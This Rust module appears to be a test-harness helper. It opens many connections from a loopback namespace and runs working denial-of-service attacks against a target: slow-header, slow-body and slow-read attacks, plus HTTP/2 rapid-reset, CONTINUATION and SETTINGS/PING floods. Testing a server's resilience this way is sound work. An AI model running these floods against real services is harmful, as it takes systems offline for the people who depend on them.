//! Clients that mean ill: many connections that ask for little and hold on to it.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering::Relaxed};
use std::thread::JoinHandle;
use std::time::Duration;

use serde::Deserialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::time::sleep;

use super::netns;

#[derive(Clone, Copy, Debug, Deserialize, PartialEq)]
#[serde(rename_all = "snake_case")]
pub enum Kind {
    /// Connect, and say nothing.
    Idle,
    /// A byte of a head in a second, without end.
    SlowHeader,
    /// A whole head, then a byte of its body in a second.
    SlowBody,
    /// Ask for four megabytes and read none of them.
    SlowRead,
    /// HTTP/2: a thousand requests in a second, each taken back at once (CVE-2023-44487).
    H2Resets,
    /// HTTP/2: a head that is continued for ever, ten kilobytes every ten milliseconds (CERT VU#421644).
    H2Continuation,
    /// HTTP/2: ten thousand SETTINGS and as many PINGs in a second, whose answers are never read (CVE-2019-9512, -9515).
    H2Control,
}

impl Kind {
    /// Whether it is an attack by HTTP/2.
    pub fn is_h2(self) -> bool {
        matches!(self, Kind::H2Resets | Kind::H2Continuation | Kind::H2Control)
    }

    /// What is sent at first, and then every so often, and whether what comes back is read.
    fn words(self) -> (Vec<u8>, Duration, Vec<u8>, bool) {
        let second = Duration::from_secs(1);
        let tenth = Duration::from_millis(10);
        match self {
            Kind::Idle => (Vec::new(), second, Vec::new(), true),
            Kind::SlowHeader => (b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ".to_vec(), second, b"x".to_vec(), true),
            Kind::SlowBody => {
                let head = b"POST /attack HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n";
                (head.to_vec(), second, b"x".to_vec(), true)
            }
            Kind::SlowRead => (b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(), second, Vec::new(), false),
            Kind::H2Resets => (preface(), tenth, Vec::new(), true),
            Kind::H2Continuation => {
                let head = frame(1, 0, 1, &REQUEST);
                let line = [&[0x00, 0x01, b'x', 0x7f, 0x85, 0x07], &[b'y'; 1_028][..]].concat();
                ([preface(), head].concat(), tenth, frame(9, 0, 1, &line).repeat(10), true)
            }
            Kind::H2Control => {
                let ping = frame(6, 0, 0, &[7; 8]);
                (preface(), tenth, [frame(4, 0, 0, &[]), ping].concat().repeat(100), false)
            }
        }
    }
}

/// `GET / ` of the host x, in HPACK (RFC 7541).
const REQUEST: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'x'];

/// A frame of HTTP/2 (RFC 9113).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn preface() -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), frame(4, 0, 0, &[])].concat()
}

/// An attack under way; it ends when dropped.
pub struct Attack {
    stop: Arc<AtomicBool>,
    open: Arc<AtomicUsize>,
    heard: Arc<AtomicUsize>,
    kind: Kind,
    count: usize,
    thread: Option<JoinHandle<()>>,
}

impl Attack {
    /// Keeps `count` connections open from one namespace, from addresses of 127.66.0.0/16; each one that is closed is followed
    /// by another after 100 ms.
    pub fn start(namespace: String, target: SocketAddr, kind: Kind, count: usize) -> Attack {
        let (stop, open, heard): (Arc<AtomicBool>, Arc<AtomicUsize>, Arc<AtomicUsize>) = Default::default();
        let thread = {
            let (stop, open, heard) = (stop.clone(), open.clone(), heard.clone());
            std::thread::spawn(move || {
                netns::enter(&namespace);
                let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
                runtime.block_on(async move {
                    for i in 0..count {
                        tokio::spawn(attacker(i, target, kind, open.clone(), heard.clone()));
                        if i % 20 == 19 {
                            sleep(Duration::from_millis(2)).await;
                        }
                    }
                    while !stop.load(Relaxed) {
                        sleep(Duration::from_millis(20)).await;
                    }
                });
                // Its runtime ends, and with it every connection.
            })
        };
        Attack { stop, open, heard, kind, count, thread: Some(thread) }
    }

    /// Connections that it holds: those open now, or, where each may be closed at once and followed by another, all that are meant.
    ///
    /// # Panics
    /// When the other side did not speak the protocol of the attack with as many.
    pub fn held(&self) -> usize {
        if !self.kind.is_h2() {
            return self.open.load(Relaxed);
        }
        let heard = self.heard.load(Relaxed);
        assert!(heard >= self.count, "{heard} of {} connections spoke HTTP/2", self.count);
        self.count
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Relaxed);
        let _ = self.thread.take().map(JoinHandle::join);
    }
}

async fn attacker(i: usize, target: SocketAddr, kind: Kind, open: Arc<AtomicUsize>, heard: Arc<AtomicUsize>) {
    let source = Ipv4Addr::new(127, 66, (i / 250) as u8, (i % 250) as u8 + 1);
    loop {
        let opened = async {
            let socket = TcpSocket::new_v4()?;
            if kind == Kind::SlowRead {
                socket.set_recv_buffer_size(4096)?;
            }
            socket.bind(SocketAddr::V4(SocketAddrV4::new(source, 0)))?;
            socket.connect(target).await
        };
        if let Ok(mut stream) = opened.await {
            open.fetch_add(1, Relaxed);
            hold(&mut stream, kind, &heard).await;
            open.fetch_sub(1, Relaxed);
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Until the other side ends it.
async fn hold(stream: &mut tokio::net::TcpStream, kind: Kind, heard: &AtomicUsize) {
    let (start, pause, more, reads) = kind.words();
    if stream.write_all(&start).await.is_err() {
        return;
    }
    let (mut reader, mut writer) = stream.split();
    let mut place = [0; 4096];
    if kind.is_h2() {
        // The other side's settings: it speaks HTTP/2.
        match reader.read(&mut place).await {
            Ok(4..) if place[3] == 4 => _ = heard.fetch_add(1, Relaxed),
            _ => return,
        }
    }
    let mut number = 1;
    loop {
        let ended = async {
            if !reads {
                // Without reading, only an error tells that it is over.
                return reader.ready(tokio::io::Interest::ERROR).await.is_ok();
            }
            while matches!(reader.read(&mut place).await, Ok(1..)) {}
            true
        };
        tokio::select! {
            _ = ended => return,
            () = sleep(pause) => {}
        }
        let requests = || {
            (0..10).flat_map(|i| {
                let stream = number + 2 * i;
                [frame(1, 5, stream, &REQUEST), frame(3, 0, stream, &8_u32.to_be_bytes())].concat()
            })
        };
        let said = match kind {
            Kind::H2Resets => writer.write_all(&requests().collect::<Vec<u8>>()).await,
            _ => writer.write_all(&more).await,
        };
        if said.is_err() {
            return;
        }
        number += 20;
    }
}
